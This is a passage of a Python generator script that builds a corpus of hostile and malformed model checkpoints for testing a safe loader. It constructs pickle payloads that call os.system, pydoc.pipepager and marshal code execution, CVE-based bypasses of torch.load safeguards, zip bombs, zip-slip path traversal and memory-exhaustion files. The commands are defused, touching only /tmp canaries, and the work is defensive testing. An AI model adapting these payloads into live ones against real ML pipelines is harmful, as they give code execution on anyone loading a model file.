    X(n, ".pt", torch_zip(pk, BASE_STORAGES),
      "valid torch zip; persistent id ('storage', os.system, ...) names os.system as storage type",
      "os.system", ["os.system", "storage"])

    n = "legacy_module_typename_persid_call"
    # legacy torch persistent_load returns data[0] for typename 'module'; the REDUCE after
    # BINPERSID then calls it
    def inj_mod(p, put):
        p.str("evil")
        p.mark().str("module").glob("os", "system").none().none().tuple().binpersid()
        p.str(touch(n)).tupleN(1).reduce()

    X(n, ".pt", legacy_state_dict(inject=inj_mod),
      "legacy stream; BINPERSID ('module', os.system, None, None) result is called by REDUCE",
      "os.system", ["os.system", "persistent id", "module"])

    # --- extension registry --------------------------------------------------------------------
    for op, code, nm in ((b"\x82", b"\x01", "ext1"), (b"\x83", b"\x01\x02", "ext2"),
                         (b"\x84", b"\x01\x02\x03\x04", "ext4")):
        n = nm + "_extension_code_call"
        p = Pk(2).raw(op + code).str(touch(n)).tupleN(1).reduce().stop()
        X(n, ".pkl", p.bytes(), "%s (copyreg extension registry) code then REDUCE" % nm.upper(),
          nm, [nm, "ext"], canary="none")

    # --- payloads in otherwise valid torch files -------------------------------------------------
    def inj_system(name, key="evil"):
        def f(p, put):
            p.str(key)
            put()
            p.glob("os", "system")
            put()
            p.str(touch(name))
            put()
            p.tupleN(1)
            put()
            p.reduce()
            put()
        return f

    n = "state_dict_zip_extra_key_os_system"
    X(n, ".pt", torch_zip(state_dict_pickle(BASE_TENSORS, inject=inj_system(n)), BASE_STORAGES),
      "real torch.save-layout zip of tensors; data.pkl has an extra key 'evil' = os.system(cmd)",
      "os.system")

    n = "state_dict_legacy_extra_key_os_system"
    X(n, ".pt", legacy_state_dict(inject=inj_system(n)),
      "legacy (non-zip) torch stream of tensors with an extra key 'evil' = os.system(cmd)",
      "os.system")

    n = "state_dict_zip_bad_cd_crc_os_system"
    X(n, ".pt", torch_zip(state_dict_pickle(BASE_TENSORS, inject=inj_system(n)), BASE_STORAGES,
                          crc_cd=0xFFFFFFFF),
      "CVE-2025-10156: central-directory CRC of data.pkl wrong (descriptor CRC right); "
      "payload os.system", "crc", ["crc", "os.system"])

    for ext in (".bin", ".pt", ".safetensors"):
        n = "misleading_extension_pickle"
        stem = n + "_" + ext[1:]
        data = state_dict_pickle(BASE_TENSORS[1:2], inject=inj_system(stem))
        ea = ["os.system", "format", "not a"] + (["header"] if ext == ".safetensors" else [])
        X(stem, ext, data,
          "CVE-2025-10155: bare pickle (not zip/legacy) named %s; contains os.system" % ext,
          "os.system", ea)

    n = "bare_pickle_os_system"
    X(n, ".pth", os_system_pickle(n), "bare protocol-2 pickle (not a torch zip) with .pth extension",
      "os.system", ["os.system", "format", "not a"])

    n = "rebuild_tensor_v2_storage_from_os_system"

    def pid_reduce(p, t, ref_or, put):
        # the 'storage' argument is not a persistent id but the result of os.system(cmd)
        p.glob("os", "system").str(touch(n)).tupleN(1).reduce()

    # pid_hook output is followed by BINPERSID in state_dict_pickle; build by hand instead
    pk = Pk(2).glob("collections", "OrderedDict").empty_tuple().reduce().mark().str("weight")
    pk.glob("torch._utils", "_rebuild_tensor_v2").mark()
    pid_reduce(pk, None, None, None)
    pk.int(0).int(3).tupleN(1).int(1).tupleN(1).false()
    pk.glob("collections", "OrderedDict").empty_tuple().reduce().tuple().reduce().setitems().stop()
    X(n, ".pt", torch_zip(pk.bytes(), {"0": f32([1, 2, 3])}),
      "valid zip; _rebuild_tensor_v2 whose storage argument is REDUCE(os.system, cmd)", "os.system")

    n = "cve_2025_32434_torchscript_dispatch"
    # torch < 2.6 torch.load(weights_only=True) sees constants.pkl and tail-calls torch.jit.load,
    # skipping the weights-only unpickler. Here a normal-looking state dict carries constants.pkl
    # and a code/ folder.
    ts_code = ("# llavapack hostile corpus: TorchScript dispatch route of CVE-2025-32434.\n"
               "# Inert: a loader must refuse TorchScript archives, never compile this.\n"
               "class Model(Module):\n"
               "  __parameters__ = []\n"
               "  training : bool\n"
               "  def forward(self: __torch__.Model) -> NoneType:\n"
               "    return None\n").encode()
    extra = [{"name": "archive/constants.pkl", "data": Pk(2).empty_tuple().stop().bytes()},
             {"name": "archive/code/__torch__.py", "data": ts_code},
             {"name": "archive/code/__torch__.py.debug_pkl",
              "data": Pk(2).empty_tuple().stop().bytes()}]
    X(n, ".pt", torch_zip(state_dict_pickle(BASE_TENSORS), BASE_STORAGES, extra_entries=extra),
      "CVE-2025-32434: state-dict zip that also has constants.pkl + code/ (TorchScript dispatch)",
      "torchscript", canary="none")

    # --- mutation type confusion (CVE-2026-24747 class) ----------------------------------------
    def tz(name, inject, technique, expect, ea=None, canary="none"):
        X(name, ".pt", torch_zip(state_dict_pickle(BASE_TENSORS, inject=inject), BASE_STORAGES),
          technique, expect, ea, canary=canary)

    def inj_setitem_tuple(p, put):
        p.str("t").empty_tuple().str("k").str("v").setitem()

    tz("setitem_on_tuple", inj_setitem_tuple,
       "CVE-2026-24747 class: SETITEM applied to a tuple inside a valid state-dict zip", "setitem")

    def inj_setitems_global(p, put):
        p.str("g").glob("torch._utils", "_rebuild_tensor_v2").mark().str("__code__").none()
        p.setitems()

    tz("setitems_on_global_function", inj_setitems_global,
       "CVE-2026-24747 class: SETITEMS applied to a global (torch._utils._rebuild_tensor_v2)",
       "setitem")

    def inj_setitem_tensor(p, put):
        # weight tensor is memo index 13 (see state_dict_pickle layout); SETITEM(tensor, 100000, 1)
        p.str("x").get(13).dup().int(100000).int(1).setitem().pop()

    tz("setitem_on_tensor_out_of_range", inj_setitem_tensor,
       "CVE-2026-24747 class: SETITEM on a tensor object with an out-of-range index", "setitem")

    def inj_append_dict(p, put):
        p.str("d").empty_dict().str("v").append()

    tz("append_on_dict", inj_append_dict, "APPEND applied to a dict (type confusion)", "append")

    def inj_appends_global(p, put):
        p.str("g").glob("collections", "OrderedDict").mark().str(touch("appends_on_global_class"))
        p.appends()

    tz("appends_on_global_class", inj_appends_global,
       "APPENDS applied to a global class object (calls cls.extend/append in CPython)", "append")

    # --- memo tricks ---------------------------------------------------------------------------
    n = "memo_reuse_dangerous_global"

    def pre(p, put):
        p.glob("os", "system").put(200).pop()

    def inj_get(p, put):
        p.str("evil").get(200).str(touch(n)).tupleN(1).reduce()

    X(n, ".pt", torch_zip(state_dict_pickle(BASE_TENSORS, inject=inj_get, prelude=pre),
                          BASE_STORAGES),
      "os.system stored at memo 200 and popped before the state dict; BINGET 200 + REDUCE later",
      "os.system")

    n = "memo_overwrite_ordereddict_slot"
    # memo 0 holds collections.OrderedDict (used by torch for backward_hooks); it is overwritten
    # with os.system, so the later 'BINGET 0 ... REDUCE' looks like an OrderedDict() construction
    def inj_over(p, put):
        p.str("evil").glob("os", "system").put(0).pop().get(0).str(touch(n)).tupleN(1).reduce()

    X(n, ".pt", torch_zip(state_dict_pickle(BASE_TENSORS, inject=inj_over), BASE_STORAGES),
      "memo slot 0 (collections.OrderedDict) overwritten by os.system, then BINGET 0 + REDUCE",
      "os.system")

    # --- outside the spec denylist (pickles an allowlist must still not execute) --------------
    n = "pydoc_pipepager_shell"
    p = Pk(2).glob("pydoc", "pipepager").str("").str(touch(n)).tupleN(2).reduce().stop()
    X(n, ".pkl", p.bytes(), "pydoc.pipepager('', cmd) runs cmd through a shell (not in spec denylist)",
      "pydoc", outcome="refuse_or_inert")

    n = "io_open_write"
    p = Pk(2).glob("io", "open").str(marker(n)).str("w").tupleN(2).reduce().stop()
    X(n, ".pkl", p.bytes(), "io.open(marker,'w') (builtins.open alias outside builtins)", "open",
      ["open", "io."], outcome="refuse_or_inert")

    n = "c_pickle_loads_alias"
    inner = os_system_pickle(n)
    p = Pk(3).glob("_pickle", "loads").binbytes(inner).tupleN(1).reduce().stop()
    X(n, ".pkl", p.bytes(), "_pickle.loads (C accelerator module, not 'pickle') on inner pickle",
      "_pickle", ["_pickle", "pickle"], outcome="refuse_or_inert")

    n = "marshal_code_functiontype"
    code = compile("import os\nos.system('%s')\n" % touch(n), "<pkl>", "exec")
    import marshal
    mcode = marshal.dumps(code)
    p = Pk(3).glob("types", "FunctionType").glob("marshal", "loads").binbytes(mcode).tupleN(1)
    p.reduce().empty_dict().tupleN(2).reduce().empty_tuple().reduce().stop()
    X(n, ".pkl", p.bytes(),
      "types.FunctionType(marshal.loads(<code>), {})() (marshal bytes for Python %d.%d)"
      % sys.version_info[:2], "marshal", ["marshal", "types.functiontype"],
      outcome="refuse_or_inert")


# ----------------------------------------------------------------------------------------------
# malformed/ : broken files and resource attacks
# ----------------------------------------------------------------------------------------------
def gen_malformed():
    M = "malformed/"

    def Y(stem, ext, data, technique, expect, expect_any=None, **kw):
        kw.setdefault("canary", "none")
        emit(M + stem + ext, data, "malformed", technique, expect, expect_any, **kw)

    valid_small = state_dict_pickle(BASE_TENSORS)

    # --- pickle stream errors ----------------------------------------------------------------
    Y("truncated_no_stop", ".pkl", valid_small[:-1], "valid state-dict pickle with STOP removed",
      "truncated", ["truncated", "end of", "eof", "stop"])
    Y("truncated_mid_opcode", ".pkl", valid_small[:100], "pickle cut in the middle of an opcode",
      "truncated", ["truncated", "end of", "eof", "stop"])
    Y("stop_with_empty_stack", ".pkl", b"\x80\x02.", "STOP with nothing on the stack", "stack",
      ["stack"])
    Y("pop_empty_stack", ".pkl", b"\x80\x020N.", "POP on an empty stack", "stack", ["stack"])
    Y("unknown_opcode_0xff", ".pkl", b"\x80\x02\xff.", "byte 0xff is not a pickle opcode", "opcode",
      ["opcode", "0xff"])
    Y("mark_never_closed", ".pkl", b"\x80\x02(K\x01.",
      "MARK left open at STOP (CPython would just return 1)", "mark")
    Y("binget_missing_memo", ".pkl", b"\x80\x02h\x07.", "BINGET 7 with an empty memo", "memo",
      ["memo"])
    Y("long_binget_missing_memo_4294967295", ".pkl", b"\x80\x02j\xff\xff\xff\xff.",
      "LONG_BINGET 4294967295 with an empty memo", "memo", ["memo", "4294967295"])
    p = Pk(2).none()
    for i in range(4096):
        p.raw(b"r" + struct.pack("<I", 0xFFFFFFFF - i * 1048573))
    Y("memo_bomb_huge_indices", ".pkl", p.stop().bytes(),
      "4096 LONG_BINPUTs at indices near 0xFFFFFFFF (array-backed memo would need 32 GB+)",
      "memo", ["memo", "4294967295"])
    Y("deep_nesting_lists_100k", ".pkl", b"\x80\x02" + b"]" * 100000 + b"a" * 99999 + b".",
      "100,000 nested lists (EMPTY_LIST x100k, APPEND x99,999)", "nesting",
      ["nesting", "depth", "deep"])
    Y("deep_nesting_marks_100k", ".pkl", b"\x80\x02" + b"(" * 100000 + b"t" * 100000 + b".",
      "100,000 nested MARKs closed by TUPLE: tuple nested 100k deep", "nesting",
      ["nesting", "depth", "deep", "mark"])
    Y("binunicode_length_0xffffffff", ".pkl", b"\x80\x02X\xff\xff\xff\xffabc.",
      "BINUNICODE declares 4294967295 bytes, 4 present", "length",
      ["length", "truncated", "end of", "eof"])
    Y("binbytes8_length_2p62", ".pkl", b"\x80\x04\x8e" + struct.pack("<Q", 1 << 62) + b"abc.",
      "BINBYTES8 declares 2^62 bytes", "length", ["length", "truncated", "end of", "eof"])
    Y("binunicode8_length_2p64_minus_1", ".pkl",
      b"\x80\x04\x8d" + struct.pack("<Q", (1 << 64) - 1) + b"abc.",
      "BINUNICODE8 declares 2^64-1 bytes (negative as a signed long)", "length",
      ["length", "truncated", "end of", "eof", "negative"])
    Y("long4_giant_length", ".pkl", b"\x80\x02\x8b" + struct.pack("<i", 0x7FFFFFFF) + b"\x01\x02.",
      "LONG4 declares a 2 GiB integer", "long", ["long", "length", "truncated", "end of"])
    Y("long4_negative_length", ".pkl", b"\x80\x02\x8b" + struct.pack("<i", -5) + b"\x01\x02.",
      "LONG4 with a negative length", "long", ["long", "length", "negative"])
    Y("long1_255_bytes", ".pkl", b"\x80\x02\x8a\xff" + b"\x7f" * 255 + b".",
      "LONG1 with 255 bytes present (2040-bit integer > 16-byte cap)", "long",
      ["long", "length", "too large", "cap"])
    Y("pickle_protocol_99", ".pkl", b"\x80\x63N.", "PROTO 99", "protocol", ["protocol"])
    Y("protocol5_next_buffer", ".pkl", b"\x80\x05\x97.", "protocol-5 NEXT_BUFFER (out-of-band)",
      "buffer", ["buffer", "next_buffer", "opcode"])
    Y("protocol5_bytearray8", ".pkl", b"\x80\x05\x96" + struct.pack("<Q", 3) + b"abc.",
      "protocol-5 BYTEARRAY8", "bytearray8", ["bytearray8", "bytearray", "opcode"])
    Y("stack_global_non_string", ".pkl", frame4(b")\x8c\x06system\x93."),
      "STACK_GLOBAL with a tuple as module name", "stack_global",
      ["stack_global", "string"])
    Y("reduce_args_not_tuple", ".pkl", b"\x80\x02ccollections\nOrderedDict\nNR.",
      "REDUCE whose argument is None instead of a tuple", "reduce", ["reduce", "tuple", "argument"])
    Y("setitems_odd_count", ".pkl", b"\x80\x02}(X\x01\x00\x00\x00kX\x01\x00\x00\x00vK\x01u.",
      "SETITEMS with an odd number of items after the mark", "setitem", ["setitem", "odd", "pair"])

    # memo expansion: 10 refs per level, 30 levels: 10^30 leaves by value, ~600 bytes by reference
    p = Pk(2).str("x").put(0).pop()
    for lvl in range(1, 31):
        p.empty_list().mark()
        for _ in range(10):
            p.get(lvl - 1)
        p.appends().put(lvl).pop()
    p.empty_dict().str("laughs").get(30).setitem().stop()
    Y("memo_expansion_billion_laughs", ".pkl", p.bytes(),
      "10^30 leaves if the memo is deep-copied; ~700 bytes if shared by reference (rule 5)",
      "", [""], outcome="refuse_or_inert",
      note="valid pickle: must finish fast with bounded memory (loading as inert data is fine); "
           "no tensors inside")

    # --- tensor / storage geometry in otherwise valid zips --------------------------------------
    def geo(stem, t, storages, technique, expect, ea):
        Y(stem, ".pt", torch_zip(state_dict_pickle([t]), storages), technique, expect, ea)

    big = 1 << 40
    geo("tensor_numel_overflow", tensor("w", "0", "FloatStorage", 4, 0, (big, big), (big, 1)),
        {"0": f32([1, 2, 3, 4])}, "size (2^40, 2^40): numel 2^80 overflows int64", "numel",
        ["numel", "overflow"])
    geo("storage_file_shorter_than_numel",
        tensor("w", "0", "FloatStorage", 1024, 0, (1024,), (1,)), {"0": f32([1, 2, 3, 4])},
        "persistent id says 1024 floats; data/0 holds 16 bytes", "storage",
        ["storage", "short", "size", "bytes"])
    geo("tensor_view_exceeds_storage", tensor("w", "0", "FloatStorage", 4, 0, (100,), (1,)),
        {"0": f32([1, 2, 3, 4])}, "tensor needs 100 elements, storage has 4", "storage",
        ["storage", "exceeds", "bounds", "out of range"])
    geo("negative_stride", tensor("w", "0", "FloatStorage", 4, 3, (4,), (-1,)),
        {"0": f32([1, 2, 3, 4])}, "stride (-1,) (every element is in bounds)", "stride",
        ["stride", "negative"])
    geo("negative_size", tensor("w", "0", "FloatStorage", 4, 0, (-4,), (1,)),
        {"0": f32([1, 2, 3, 4])}, "size (-4,)", "size", ["size", "negative", "shape"])
    geo("storage_offset_past_end", tensor("w", "0", "FloatStorage", 4, 1000, (4,), (1,)),
        {"0": f32([1, 2, 3, 4])}, "storage_offset 1000 into a 4-element storage", "offset",
        ["offset", "storage", "bounds"])
    geo("missing_storage_member", tensor("w", "7", "FloatStorage", 4, 0, (4,), (1,)),
        {"0": f32([1, 2, 3, 4])}, "persistent id key '7' but only data/0 exists", "storage",
        ["storage", "data/7", "missing", "not found"])
    geo("stride_overflow", tensor("w", "0", "FloatStorage", 4, 0, (4, 2), ((1 << 62), 1)),
        {"0": f32([1, 2, 3, 4])}, "size (4,2), stride (2^62,1): max offset 3*2^62+1 overflows int64",
        "stride", ["stride", "overflow", "bounds", "storage"])

    # --- zip container attacks ----------------------------------------------------------------
    def bomb_entry(total, lie=None):
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        head = b"\x80\x02"
        chunk = b"N0" * (1 << 19)
        crc = zlib.crc32(head)
        comp = [c.compress(head)]
        n = len(head)
        while n + len(chunk) <= total:
            comp.append(c.compress(chunk))
            crc = zlib.crc32(chunk, crc)
            n += len(chunk)
        tail = b"N."
        comp.append(c.compress(tail))
        crc = zlib.crc32(tail, crc)
        n += len(tail)
        comp.append(c.flush())
        e = {"name": "archive/data.pkl", "method": 8, "comp": b"".join(comp),
             "crc": crc & 0xFFFFFFFF, "usize": n}
        if lie is not None:
            e["usize_override"] = lie
        return e

    ver = {"name": "archive/version", "data": b"3\n"}
    Y("zip_bomb_deflated_data_pkl_300mb", ".pt",
      zip_build([bomb_entry(300 << 20), ver]),
      "data.pkl DEFLATEd (torch writes STORED): ~300 KB inflating to 313,524,228 bytes of NONE/POP "
      "(150M opcodes); sizes in headers are honest", "compress",
      ["compress", "deflate", "stored", "exceeds", "too large", "cap", "opcode"])
    Y("zip_bomb_lying_uncompressed_size", ".pt",
      zip_build([bomb_entry(300 << 20, lie=1000), ver]),
      "deflated data.pkl whose headers claim 1000 bytes but inflates to 313,524,228 bytes", "compress",
      ["compress", "deflate", "stored", "size", "length", "crc", "truncated", "end of", "exceeds"])

    good = torch_zip(valid_small, BASE_STORAGES)
    eocd = good.rfind(b"PK\x05\x06")
    z64 = good.rfind(b"PK\x06\x06")
    bad = bytearray(good)
    past = len(good) + 4096
    struct.pack_into("<I", bad, eocd + 16, past)
    struct.pack_into("<Q", bad, z64 + 48, past)
    Y("zip_central_directory_past_eof", ".pt", bytes(bad),
      "EOCD (and ZIP64 EOCD) central-directory offset points 4 KiB past end of file",
      "central directory", ["central directory", "zip", "eof", "offset", "cen", "end header"])

    Y("zip_truncated_no_eocd", ".pt", good[: len(good) // 2],
      "torch zip cut in half: no end-of-central-directory record", "zip",
      ["zip", "central directory", "end header", "eocd", "truncated"])

    ents = [{"name": "archive/data/0", "data": BASE_STORAGES["0"]},
            {"name": "archive/version", "data": b"3\n"}]
    Y("zip_missing_data_pkl", ".pt", zip_build(ents), "zip with data/0 and version but no data.pkl",
      "data.pkl", ["data.pkl", "not a torch", "format"])

    alt = state_dict_pickle(BASE_TENSORS[:1])
    ents = [{"name": "archive/data.pkl", "data": valid_small},
            {"name": "archive/data.pkl", "data": alt}]
    ents += [{"name": "archive/data/%s" % k, "data": v} for k, v in sorted(BASE_STORAGES.items())]
    ents.append({"name": "archive/version", "data": b"3\n"})
    Y("zip_duplicate_data_pkl_entries", ".pt", zip_build(ents),
      "two central-directory entries both named archive/data.pkl with different content",
      "duplicate", ["duplicate", "data.pkl", "multiple", "ambiguous"])

    ents = [{"name": "a/data.pkl", "data": valid_small}, {"name": "b/data.pkl", "data": alt}]
    ents += [{"name": "%s/data/%s" % (d, k), "data": v} for d in "ab"
             for k, v in sorted(BASE_STORAGES.items())]
    ents += [{"name": "a/version", "data": b"3\n"}, {"name": "b/version", "data": b"3\n"}]
    Y("zip_two_data_pkl_folders", ".pt", zip_build(ents),
      "two top folders a/ and b/, each with a data.pkl", "data.pkl",
      ["data.pkl", "multiple", "ambiguous", "two"])

    Y("zip_bad_crc_benign", ".pt",
      torch_zip(valid_small, BASE_STORAGES, crc_cd=0x1, crc_desc=0x1, crc_target="data/0"),
      "benign state dict; CRC of data/0 wrong in both central directory and data descriptor",
      "crc", ["crc", "checksum"])

    Y("zip_entry_name_path_traversal", ".pt",
      zip_build([{"name": "../../tmp/llavapack-pwned-zip_entry_name_path_traversal/data.pkl",
                  "data": valid_small}]
                + [{"name": "../../tmp/llavapack-pwned-zip_entry_name_path_traversal/data/%s" % k,
                    "data": v} for k, v in sorted(BASE_STORAGES.items())]),
      "zip-slip member names (../../tmp/...): must never be extracted to disk", "..",
      ["..", "path", "traversal", "name"], canary="absent", outcome="refuse_or_inert",
      note="reading the members in memory is fine; nothing may be written outside the output dir")

    # --- legacy stream --------------------------------------------------------------------------
    Y("legacy_wrong_magic", ".pt", legacy_state_dict(magic=MAGIC_NUMBER + 1),
      "legacy stream whose magic LONG1 is off by one", "magic", ["magic"])
    Y("legacy_wrong_protocol_version", ".pt",
      legacy_state_dict().replace(b"M\xe9\x03.", b"M\xea\x03.", 1),
      "legacy stream with protocol version 1002", "protocol", ["protocol", "1002", "version"])
    Y("legacy_storage_count_mismatch", ".pt", legacy_state_dict(keys=["0", "1", "2"]),
      "legacy storage-key list names 3 storages; the graph defines 2 and 2 follow", "storage",
      ["storage", "count", "key", "'2'", "mismatch"])
    Y("legacy_truncated_storage_bytes", ".pt", legacy_state_dict(truncate_last=6),
      "legacy stream whose last storage has 6 bytes missing", "storage",
      ["storage", "truncated", "end of", "eof", "short"])

    # --- recognise and refuse -----------------------------------------------------------------
    def tar_bytes(members):
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
            for name, data in members:
                ti = tarfile.TarInfo(name)
                ti.size = len(data)
                ti.mtime = 0
                ti.mode = 0o644
                ti.uid = ti.gid = 0
                ti.uname = ti.gname = ""
                tf.addfile(ti, io.BytesIO(data))
        return buf.getvalue()

    Y("tar_format_legacy_torch", ".pt",
      tar_bytes([("sys_info", sys_info_pickle()),
                 ("pickle", os_system_pickle("tar_format_legacy_torch")),
                 ("storages", Pk(2).int(0).stop().bytes()),
                 ("tensors", Pk(2).int(0).stop().bytes())]),
      "very old tar-based torch file (ustar at 257); its 'pickle' member calls os.system",
      "tar", ["tar", "os.system"], canary="absent")

    ts_data = Pk(2).glob("__torch__", "Model").put(0).empty_tuple().newobj().put(1).empty_dict()
    ts_data.put(2).str("training").put(3).true().setitem().build().stop()
    Y("torchscript_archive", ".pt",
      zip_build([{"name": "model/data.pkl", "data": ts_data.bytes()},
                 {"name": "model/code/__torch__.py",
                  "data": b"class Model(Module):\n  __parameters__ = []\n  training : bool\n"},
                 {"name": "model/constants.pkl", "data": Pk(2).empty_tuple().stop().bytes()},
                 {"name": "model/version", "data": b"3\n"}]),
      "torch.jit.save-style archive (constants.pkl + code/)", "torchscript", ["torchscript"])

    # --- safetensors ----------------------------------------------------------------------------
    S = "st_"
    w16 = f32([1, 2, 3, 4])
    hdr_w = {"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}
    Y(S + "header_length_200mb", ".safetensors",
      st_raw(b'{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}', w16,
             declared_len=200000000),
      "header length 200000000 (> 100,000,000 cap), file is 80 bytes", "header",
      ["header", "200000000", "100000000"])
    Y(S + "header_length_past_eof", ".safetensors",
      st_raw(b'{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}', w16, declared_len=4096),
      "header length 4096 beyond end of an 80-byte file", "header",
      ["header", "eof", "length", "truncated", "end of"])
    Y(S + "header_not_json", ".safetensors", st_raw(b"{this is not json at all}", b""),
      "header starts with '{' but is not JSON", "json", ["json", "header", "parse"])
    Y(S + "header_json_not_object", ".safetensors", st_raw(b'{"w":1}', w16),
      "header entry 'w' is a number, not a tensor object", "object",
      ["object", "header", "tensor", "dtype"])
    Y(S + "metadata_not_string_map", ".safetensors",
      st_json(dict(hdr_w, __metadata__={"format": "pt", "n": 1, "nested": {"a": "b"}}), w16),
      "__metadata__ values are a number and an object", "metadata", ["metadata"])
    Y(S + "unknown_dtype", ".safetensors",
      st_json({"w": {"dtype": "F33", "shape": [4], "data_offsets": [0, 16]}}, w16),
      "dtype 'F33'", "dtype", ["dtype", "f33"])
    Y(S + "data_offsets_past_eof", ".safetensors",
      st_json({"w": {"dtype": "F32", "shape": [1024], "data_offsets": [0, 4096]}}, w16),
      "data_offsets [0,4096] but 16 data bytes", "offset", ["offset", "eof", "bounds", "buffer"])
    Y(S + "overlapping_offsets", ".safetensors",
      st_json({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
               "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]}}, f32(range(6))),
      "a=[0,16], b=[8,24] overlap", "overlap", ["overlap", "offset", "contiguous"])
    Y(S + "gap_between_tensors", ".safetensors",
      st_json({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
               "b": {"dtype": "F32", "shape": [4], "data_offsets": [32, 48]}}, f32(range(12))),
      "a=[0,16], b=[32,48]: 16-byte hole", "offset", ["offset", "gap", "contiguous", "coverage"])
    Y(S + "byte_length_not_numel_times_size", ".safetensors",
      st_json({"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 12]}}, f32([1, 2, 3])),
      "F32 shape [4] needs 16 bytes, offsets give 12", "length",
      ["length", "size", "offset", "numel", "bytes"])
    Y(S + "duplicate_tensor_names", ".safetensors",
      st_raw(b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},'
             b'"w":{"dtype":"F32","shape":[2],"data_offsets":[8,16]}}', w16),
      "the key 'w' appears twice in the header JSON", "duplicate", ["duplicate"])
    Y(S + "negative_shape", ".safetensors",
      st_json({"w": {"dtype": "F32", "shape": [-4], "data_offsets": [0, 16]}}, w16),
      "shape [-4]", "shape", ["shape", "negative"])
    Y(S + "offsets_begin_greater_than_end", ".safetensors",
      st_json({"w": {"dtype": "F32", "shape": [4], "data_offsets": [16, 0]}}, w16),
      "data_offsets [16,0]", "offset", ["offset"])
    Y(S + "non_utf8_header", ".safetensors",
      st_raw(b'{"w\xff\xfe":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}', w16),
      "header contains bytes 0xff 0xfe (invalid UTF-8) inside a key", "utf",
      ["utf", "header", "json", "encoding"])
    Y(S + "shape_numel_overflow", ".safetensors",
      st_json({"w": {"dtype": "F32", "shape": [big, big, big], "data_offsets": [0, 16]}}, w16),
      "shape [2^40,2^40,2^40]: numel overflows int64", "overflow",
      ["overflow", "numel", "size", "shape"])
    Y(S + "trailing_bytes_after_data", ".safetensors",
      st_json(hdr_w, w16 + b"\x00" * 64),
      "64 bytes after the last tensor (reference reader: MetadataIncompleteBuffer)", "offset",
      ["offset", "trailing", "coverage", "size", "length", "buffer"])

    shard1 = st_json({"model.embed_tokens.weight": {"dtype": "F32", "shape": [2, 2],
                                                    "data_offsets": [0, 16]}}, w16)
    idx = {"metadata": {"total_size": 32},
           "weight_map": {"model.embed_tokens.weight": "model-00001-of-00002.safetensors",
                          "lm_head.weight": "model-00002-of-00002.safetensors"}}
    emit_dir(M + "sharded_missing_shard", {
        "model.safetensors.index.json": json.dumps(idx, indent=2, sort_keys=True).encode() + b"\n",
        "model-00001-of-00002.safetensors": shard1}, "model.safetensors.index.json", "malformed",
        "index weight_map points lm_head.weight at model-00002-of-00002.safetensors, which is absent",
        "model-00002-of-00002.safetensors",
        ["model-00002-of-00002.safetensors", "missing", "not found", "no such file"])
    idx2 = {"metadata": {"total_size": 32},
            "weight_map": {"model.embed_tokens.weight": "model-00001-of-00001.safetensors",
                           "lm_head.weight": "model-00001-of-00001.safetensors"}}
    emit_dir(M + "sharded_tensor_not_in_shard", {
        "model.safetensors.index.json": json.dumps(idx2, indent=2, sort_keys=True).encode() + b"\n",
        "model-00001-of-00001.safetensors": shard1}, "model.safetensors.index.json", "malformed",
        "index maps lm_head.weight to a shard that does not contain it", "lm_head.weight",
        ["lm_head.weight"])


# ----------------------------------------------------------------------------------------------
# README + manifest
# ----------------------------------------------------------------------------------------------
README_HEAD = """# Hostile and malformed checkpoint corpus

Generated by `generate_hostile.py` (run `/usr/bin/python3 test-checkpoints/hostile/generate_hostile.py`;
output is byte-for-byte deterministic, see `manifest.json` sha256s). Do not edit files by hand.

**Never load these with Python `pickle`/`torch.load`.** Every payload is harmless anyway: commands are
`touch /tmp/llavapack-pwned-<stem>`, sockets go to 127.0.0.1:9, `shutil.rmtree` targets
`/tmp/llavapack-pwned-shutil_rmtree` (the test should create that directory first and check it survives).

## How tests should use `manifest.json`

Each record: `file` (relative to this folder), `kind` (`exec` | `malformed`), `technique`, `expect`
(the preferred lowercase substring), `expect_any` (all acceptable substrings; `expect` is one of them),
`outcome`, `canary`, `canary_kind`, `sha256`, `size`; sharded cases add `folder_files`.

1. Run the reader on `file` (for the two `sharded_*` folders, on the index JSON / its folder).
   `container: bare pickle` files ending in `.pkl` are raw pickle streams: feed them straight to the
   pickle parser (as if they were a `data.pkl`), not through container detection. The bare pickles
   with checkpoint extensions (`.pth`, `.pt`, `.bin`, `.safetensors`) go through the normal entry
   point; for those, "not a torch checkpoint"-style refusals are accepted (`format`, `not a`).
2. `outcome: refuse` → it must fail (llavapack: exit 3 for hostile pickles) and the error message,
   **lower-cased and with the input path removed** (file names contain the technique words), must
   contain one of `expect_any`. `outcome: refuse_or_inert` → refusing is preferred; loading as inert
   data (opaque objects, no tensors) is acceptable; it must still terminate quickly in bounded memory.
3. `canary_kind: absent` → `canary` must not exist afterwards; `survive` → the test creates `canary`
   as a directory before and checks it still exists; `none` → no file-system effect to check.
   Simplest global check: no `/tmp/llavapack-pwned-*` file appears during the whole run.

`expect_any` lists several alternatives where the order of checks legitimately changes which
construct is named first (e.g. a zip with a bad CRC *and* an `os.system` payload; GLOBAL-time versus
REDUCE-time refusal in `getattr(__import__('os'), ...)` chains).

## Files

| file | container | what it attempts / what is wrong | a safe reader's error names | expect_any |
|---|---|---|---|---|
"""

README_TAIL = """
## Notes for the Java reader

- **Valid containers around a bad pickle**: the `container` column says what surrounds each
  payload. `torch zip` = a container that must parse cleanly (only the pickle is hostile, or, for the
  `malformed/` geometry files `tensor_*`, `negative_*`, `storage_*`, `stride_overflow`,
  `missing_storage_member`, only the tensor geometry / storage sizes are wrong). Zips copy torch
  1.13's layout exactly: `archive/data.pkl`, `archive/data/<k>`, `archive/version`; STORED; flag
  0x0808 with data descriptors (local headers carry CRC 0 and sizes 0); data 64-byte aligned through
  an `FB` extra field; ZIP64 end records. `java.util.zip.ZipInputStream` cannot read STORED entries
  with data descriptors: read the central directory. `legacy torch stream` files are well-formed
  legacy streams (the builders reproduce torch.save byte for byte; `--verify-with-torch`).
  `state_dict_zip_bad_cd_crc_os_system.pt` has a wrong central-directory CRC for data.pkl while the
